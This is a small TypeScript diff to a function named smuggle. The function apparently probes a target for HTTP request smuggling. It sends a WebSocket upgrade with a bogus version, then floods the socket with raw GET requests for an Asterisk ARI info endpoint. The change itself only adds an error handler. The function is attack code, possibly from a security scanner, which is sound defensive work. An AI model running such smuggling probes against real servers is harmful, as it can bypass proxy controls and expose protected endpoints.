@@ -63,6 +63,8 @@ async function smuggle(target: Target): Promise<string> {
   const socket = await open(target, upgrade(url, '99'));
   const guess = `GET /ari/asterisk/info HTTP/1.1\r\nHost: ${url.host}\r\nAuthorization: Basic YTpi\r\n\r\n`;
   let text = '';
+  // It is closed while there is still something to write.
+  socket.on('error', () => undefined);
   socket.on('data', (chunk: Buffer) => (text += chunk.toString('latin1')));
   for (let at = 0; at < 500 && socket.writable; at += 1) socket.write(guess);
   socket.end();
